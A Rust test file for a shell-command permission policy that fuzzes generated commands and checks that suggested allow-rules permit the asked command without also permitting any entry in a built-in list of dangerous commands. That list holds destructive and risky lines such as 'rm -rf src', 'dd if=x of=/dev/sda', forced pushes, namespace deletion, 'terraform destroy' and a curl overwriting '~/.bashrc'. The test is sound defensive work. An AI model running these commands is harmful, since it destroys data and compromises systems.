//! Suggestions over generated commands: each set of rules that is offered, stored alone, allows the very command, and allows none of the known-dangerous
//! commands that the person did not ask about.
//!
//! Commands come from the specs' examples and the corpora, changed and joined by a seeded generator, so that a failure comes again.
//! `PORTCULLIS_SUGGESTIONS=100000` says how many; without it some thousands, for CI.

use std::{
    collections::HashSet,
    fs,
    path::{Path, PathBuf},
};

use policy_core::{Decision, Policy, PolicyConfig, Registry, Request, RuleLists, facts::Facts};
use portcullis_tests::corpus;

/// A dangerous command, and the words that name what it does: somebody who is asked about those may well allow it.
const DANGEROUS: &[(&str, &str)] = &[
    ("git push", "git push --force origin main"),
    ("git reset", "git reset --hard HEAD~5"),
    ("git clean", "git clean -fdx"),
    ("git config", "git config core.fsmonitor ./x"),
    ("git checkout", "git checkout -- ."),
    ("git branch", "git branch -D main"),
    ("git rebase", "git rebase --exec ./x main"),
    ("npm publish", "npm publish"),
    ("npm install", "npm install evil"),
    ("npm exec", "npm exec evil"),
    ("npm run", "npm run deploy"),
    ("pnpm publish", "pnpm publish"),
    ("yarn publish", "yarn publish"),
    ("npx", "npx evil"),
    ("cargo publish", "cargo publish"),
    ("cargo install", "cargo install evil"),
    ("cargo run", "cargo run --bin evil"),
    ("pip install", "pip install evil"),
    ("docker run", "docker run -v /:/host alpine sh"),
    ("docker system", "docker system prune -af"),
    ("docker exec", "docker exec x sh"),
    ("kubectl delete", "kubectl delete namespace prod"),
    ("kubectl exec", "kubectl exec pod -- sh"),
    ("gh repo", "gh repo delete x --yes"),
    ("gh api", "gh api -X DELETE repos/x/y"),
    ("gh pr merge", "gh pr merge 1"),
    ("aws s3", "aws s3 rm s3://x --recursive"),
    ("aws ec2", "aws ec2 terminate-instances --instance-ids i"),
    (
        "gcloud compute instances",
        "gcloud compute instances delete x",
    ),
    ("az group", "az group delete -n x"),
    ("terraform destroy", "terraform destroy -auto-approve"),
    ("systemctl stop", "systemctl stop sshd"),
    ("brew uninstall", "brew uninstall x"),
    ("apt-get", "apt-get remove -y x"),
    ("make", "make deploy"),
    ("just", "just deploy"),
    ("go run", "go run evil.go"),
    ("helm uninstall", "helm uninstall x"),
    ("rm", "rm -rf src"),
    ("mv", "mv src /tmp/x"),
    ("chmod", "chmod -R 777 src"),
    ("dd", "dd if=x of=/dev/sda"),
    ("bash", "bash ./evil.sh"),
    ("sh", "sh -c 'rm -rf lib'"),
    ("python3", "python3 -c 'import os'"),
    ("node", "node -e 'x'"),
    ("perl", "perl -e 'unlink x'"),
    ("find", "find . -delete"),
    ("sed", "sed -i s/a/b/ src/x"),
    ("xargs", "ls | xargs rm"),
    ("sudo", "sudo rm -rf src"),
    ("ssh", "ssh host rm x"),
    ("curl", "curl -o ~/.bashrc https://x.example"),
    ("wget", "wget https://x.example"),
    ("tee", "tee ~/.bashrc"),
    ("env", "env x"),
    ("kill", "kill -9 1"),
    ("cp", "cp x ~/.bashrc"),
    ("ln", "ln -s a b"),
    ("awk", "awk 'BEGIN{system(\"x\")}'"),
    ("tar", "tar -xf x"),
];

/// xorshift64*: the same commands each time.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33) as usize % sides.max(1)
    }

    fn pick<'a, T>(&mut self, from: &'a [T]) -> &'a T {
        &from[self.roll(from.len())]
    }
}

fn documents(folder: &Path, into: &mut Vec<PathBuf>) {
    for entry in fs::read_dir(folder).expect("the specs").flatten() {
        let path = entry.path();
        if path.is_dir() {
            documents(&path, into);
        } else if path.extension().is_some_and(|ending| ending == "toml") {
            into.push(path);
        }
    }
}

/// The examples of every spec: the texts of `readOnly = […]` and `notReadOnly = […]`.
fn examples() -> Vec<String> {
    let mut paths = Vec::new();
    documents(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("../policy-core/commands"),
        &mut paths,
    );
    paths.sort();
    let mut found = Vec::new();
    for path in paths {
        let text = fs::read_to_string(&path).expect("readable");
        for key in ["\nreadOnly = [", "\nnotReadOnly = ["] {
            if let Some((_, list)) = text.split_once(key) {
                texts(list, &mut found);
            }
        }
    }
    found
}

/// The texts of a TOML list up to its end: basic and literal ones, one line each.
fn texts(list: &str, found: &mut Vec<String>) {
    let mut rest = list.trim_start_matches([' ', '\n', ',']);
    loop {
        if rest.starts_with('#') {
            rest = rest.split_once('\n').map_or("", |(_, rest)| rest);
        } else if let Some(inner) = rest.strip_prefix('\'') {
            let Some((text, after)) = inner.split_once('\'') else {
                return;
            };
            found.push(text.to_owned());
            rest = after;
        } else if rest.starts_with('"') {
            let mut reader = serde_json::Deserializer::from_str(rest).into_iter::<String>();
            let Some(Ok(text)) = reader.next() else {
                return;
            };
            found.push(text);
            rest = rest.get(reader.byte_offset()..).unwrap_or_default();
        } else {
            return;
        }
        rest = rest.trim_start_matches([' ', '\n', ',']);
    }
}

fn seeds() -> Vec<String> {
    let mut seeds = examples();
    assert!(seeds.len() > 1_000, "{} examples of the specs", seeds.len());
    let corpora = Path::new(env!("CARGO_MANIFEST_DIR")).join("corpora");
    seeds.extend(corpus::load(&corpora).into_iter().map(|case| case.command));
    seeds.extend(DANGEROUS.iter().map(|(_, command)| (*command).to_owned()));
    seeds
}

fn generate(seeds: &[String], dice: &mut Dice) -> String {
    let mut command = dice.pick(seeds).clone();
    for _ in 0..dice.roll(4) {
        let words: Vec<&str> = command.split(' ').collect();
        command = match dice.roll(12) {
            0 => format!(
                "{command}{}{}",
                dice.pick(&["; ", " && ", " | ", " || ", "\n"]),
                dice.pick(seeds)
            ),
            1 => format!(
                "{} {command}",
                dice.pick(&[
                    "timeout 5",
                    "nice",
                    "CI=1",
                    "FOO=1",
                    "PATH=.",
                    "sudo",
                    "env A=1",
                    "time",
                    "nohup",
                    "command",
                    "xargs"
                ])
            ),
            2 => format!(
                "{command} {}",
                dice.pick(&[
                    "-v",
                    "--force",
                    "-x y",
                    "--dry-run",
                    "src/a.rs",
                    "'a b'",
                    "\"$x\"",
                    "*.rs",
                    "2>&1",
                    "> out",
                    "-- -k x",
                    "main"
                ])
            ),
            3 => format!("cd src && {command}"),
            4 => format!("({command})"),
            5 => {
                let other = dice.pick(seeds).split(' ').next_back().unwrap_or("x");
                let at = dice.roll(words.len());
                words
                    .iter()
                    .enumerate()
                    .map(|(index, word)| {
                        if index == at && index > 0 {
                            other
                        } else {
                            word
                        }
                    })
                    .collect::<Vec<_>>()
                    .join(" ")
            }
            6 => {
                let cut = 1 + dice.roll(words.len());
                words[..cut.min(words.len())].join(" ")
            }
            7 => {
                let at = dice.roll(words.len());
                let quoted = words.iter().enumerate().map(|(index, word)| {
                    if index == at
                        && word
                            .chars()
                            .all(|each| each.is_ascii_alphanumeric() || "-_./".contains(each))
                    {
                        format!("'{word}'")
                    } else {
                        (*word).to_owned()
                    }
                });
                quoted.collect::<Vec<_>>().join(" ")
            }
            8 => format!("for i in 1 2; do {command}; done"),
            9 => format!("bash -c '{}'", command.replace('\'', "")),
            10 => {
                let other = dice.pick(seeds).split(' ').next().unwrap_or("x").to_owned();
                [&[other.as_str()], words.get(1..).unwrap_or_default()]
                    .concat()
                    .join(" ")
            }
            _ => format!("{command} | head -20"),
        };
    }
    command
}

fn facts() -> Facts {
    serde_json::from_value(serde_json::json!({
        "cwd": "/w", "workspace": ["/w"], "home": "/home/u", "git": "trusted", "canApplyConditions": true,
    }))
    .expect("facts")
}

#[test]
fn what_is_suggested_is_enough_and_no_more() {
    let count = std::env::var("PORTCULLIS_SUGGESTIONS")
        .ok()
        .map_or(2_500, |count| count.parse().expect("a number"));
    let bytes = include_bytes!("../../policy-core/registry/registry.bin");
    let policy = Policy::new(PolicyConfig::default())
        .expect("an empty configuration")
        .with_registry(Registry::borrowed(bytes).expect("a registry"));
    let facts = facts();
    let judge = |command: &str, allow: &[String]| {
        policy.evaluate(&Request {
            command: command.to_owned(),
            facts: facts.clone(),
            rules: RuleLists {
                allow: allow.to_vec(),
                ..RuleLists::default()
            },
            ..Request::default()
        })
    };
    let seeds = seeds();
    let mut dice = Dice(0x9e37_79b9_7f4a_7c15);
    let (mut asked, mut offered, mut wrong, mut wide) = (0_u32, 0_u32, Vec::new(), Vec::new());
    let mut tried: HashSet<Vec<String>> = HashSet::new();
    for _ in 0..count {
        let command = generate(&seeds, &mut dice);
        let verdict = judge(&command, &[]);
        if verdict.decision != Decision::Ask {
            continue;
        }
        asked += 1;
        let rules: Vec<String> = verdict
            .suggestions
            .iter()
            .map(|found| found.rule.clone())
            .collect();
        if rules.is_empty() {
            continue;
        }
        offered += 1;
        let after = judge(&command, &rules);
        if after.decision != Decision::Allow {
            wrong.push(format!(
                "{command:?} with {rules:?}: {}",
                after.reason.message
            ));
        }
        if rules.len() > 5 {
            wrong.push(format!("{command:?}: {} rules", rules.len()));
        }
        if !tried.insert(rules.clone()) {
            continue;
        }
        let parts: Vec<String> = verdict
            .commands
            .iter()
            .map(|part| part.subjects.join("\n"))
            .collect();
        for (verb, dangerous) in DANGEROUS {
            let meant = |subject: &str| {
                subject == *verb
                    || subject
                        .strip_prefix(verb)
                        .is_some_and(|rest| rest.starts_with(' '))
            };
            let own =
                parts.iter().any(|part| part.lines().any(meant)) || command.contains(dangerous);
            if !own && judge(dangerous, &rules).decision == Decision::Allow {
                wide.push(format!("{command:?}: {rules:?} also allows {dangerous:?}"));
            }
        }
    }
    println!(
        "{count} commands: {asked} asked about, {offered} with suggestions, {} different",
        tried.len()
    );
    let show = |list: &[String]| list.iter().take(20).cloned().collect::<Vec<_>>().join("\n");
    assert!(
        wrong.is_empty(),
        "{} not enough:\n{}",
        wrong.len(),
        show(&wrong)
    );
    assert!(wide.is_empty(), "{} too wide:\n{}", wide.len(), show(&wide));
    assert!(
        offered as usize > count / 10,
        "only {offered} of {count} with suggestions"
    );
}
